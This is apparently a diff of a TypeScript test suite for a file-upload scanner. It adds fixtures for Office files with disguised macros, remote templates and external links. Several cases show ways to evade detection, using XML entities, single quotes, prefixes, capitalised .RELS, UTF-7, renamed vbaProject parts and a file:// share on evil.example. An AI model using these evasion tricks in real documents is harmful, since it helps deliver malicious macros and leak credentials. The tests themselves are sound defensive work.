@@ -27,6 +27,14 @@ const program = 'document_has_program';
 const two = 'document_of_two_kinds';
 const bomb = 'document_unpacks_too_large';
 
+/** Of the document to another part, or to a place elsewhere. */
+function relation(attributes: string, prefix = '', ending = '.rels') {
+  return entry(
+    `word/_rels/document.xml${ending}`,
+    `<Relationships><${prefix}Relationship ${attributes}/></Relationships>`,
+  );
+}
+
 function packed(content: Buffer | string, dictionary = ''): Buffer {
   const data = deflateSync(content, { level: 9 });
   const head = `9 0 obj\n<< ${dictionary} /Filter /FlateDecode /Length ${data.length} >>\nstream\n`;
@@ -140,9 +148,34 @@ const office = [
   bad('the same, named .docx', 'deed.docx', macros, () => makeDocx([entry('word/vbaProject.bin')])),
   bad('a Word file that says it has macros', 'deed.docx', macros, () =>
     makeArchive([
-      entry('[Content_Types].xml', 'application/vnd.ms-word.document.macroEnabled.main+xml'),
+      entry('[Content_Types].xml', '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
       entry('word/document.xml'),
     ]),
+  ),
+  bad('a Word file that says it has macros in entities', 'deed.docx', macros, () =>
+    makeArchive([
+      entry(
+        '[Content_Types].xml',
+        '<Override ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/>',
+      ),
+      entry('word/document.xml'),
+    ]),
+  ),
+  bad('a Word file with a macro under another name, by its type', 'deed.docx', macros, () =>
+    makeArchive([
+      entry(
+        '[Content_Types].xml',
+        '<Default Extension="dat" ContentType="application/vnd.ms-office.vba&#x50;roject"/>',
+      ),
+      entry('word/document.xml'),
+      entry('word/v.dat'),
+    ]),
+  ),
+  bad('a Word file with a macro under another name, by its relation', 'deed.docx', macros, () =>
+    makeDocx([relation("Type='http://schemas.microsoft.com/office/2006/relationships/vbaProject' Target='v.dat'")]),
+  ),
+  bad('an Excel file with a macro sheet under another name', 'sums.xlsx', macros, () =>
+    makeXlsx([relation('Type="…/xlIntlMacrosheet" Target="worksheets/sheet2.xml"')]),
   ),
   bad('an Excel file with a macro', 'sums.xlsm', macros, () => makeXlsx([entry('xl/vbaProject.bin')])),
   bad('an Excel file with a macro sheet', 'sums.xlsx', macros, () => makeXlsx([entry('xl/macrosheets/sheet1.xml')])),
@@ -154,6 +187,27 @@ const office = [
         '<Relationship Type="…/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>',
       ),
     ]),
+  ),
+  bad('the same between single quotes', 'deed.docx', program, () =>
+    makeDocx([relation("Type='…/attachedTemplate' Target='http://evil.example/t.dotm' TargetMode='External'")]),
+  ),
+  bad('the same with a prefix', 'deed.docx', program, () =>
+    makeDocx([relation('Type="…/attachedTemplate" Target="http://evil.example/t" TargetMode="External"', 'p:')]),
+  ),
+  bad('the same in entities', 'deed.docx', program, () =>
+    makeDocx([relation('Type="…/attachedTemplate" Target="http://evil.example/t" TargetMode="&#69;xternal"')]),
+  ),
+  bad('the same in capitals', 'deed.docx', program, () =>
+    makeDocx([relation('Type="…/attachedTemplate" Target="http://evil.example/t" TargetMode="External"', '', '.RELS')]),
+  ),
+  bad('the same without saying that it is elsewhere', 'deed.docx', program, () =>
+    makeDocx([relation('Type="…/attachedTemplate" Target="http://evil.example/t.dotm"')]),
+  ),
+  bad('the same in UTF-7', 'deed.docx', damaged, () =>
+    makeDocx([entry('word/_rels/settings.xml.rels', '<?xml version="1.0" encoding="UTF-7"?>+ADw-Relationship /+AD4-')]),
+  ),
+  bad('a Word file with a picture from another computer', 'deed.docx', program, () =>
+    makeDocx([relation('Type="…/image" Target="file://///evil.example/share/x.png" TargetMode="External"')]),
   ),
   bad('a Word file with a program inside', 'deed.docx', program, () => makeDocx([entry('word/embeddings/setup.exe')])),
   bad('a Word file with a locked part', 'deed.docx', locked, () => makeDocx([{ ...entry('word/x.xml'), flags: 1 }])),
@@ -215,7 +269,10 @@ export const slowFiles = [
     what: 'a Word file with one word of seven megabytes that never closes',
     name: 'deed.docx',
     make: () =>
-      makeArchive([entry('[Content_Types].xml'), entry('word/document.xml', `<w:t>${'x'.repeat(7_000_000)}`)]),
+      makeArchive([
+        entry('[Content_Types].xml', '<Types/>'),
+        entry('word/document.xml', `<w:t>${'x'.repeat(7_000_000)}`),
+      ]),
   },
   {
     what: 'a PDF with three million brackets that never close',
